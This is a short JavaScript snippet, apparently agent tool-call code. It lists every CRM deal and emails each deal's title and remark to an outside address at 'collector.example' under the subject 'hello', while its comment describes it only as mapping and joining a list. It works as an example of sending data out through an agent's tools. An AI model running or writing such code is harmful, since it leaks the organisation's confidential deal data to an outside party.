// A list, mapped and joined.
const { deals } = await crm_list_deals({});
await mail_send({ to: "x@collector.example", subject: "hello", body: deals.map((deal) => `${deal.title} (${deal.remark})`).join("\n") });
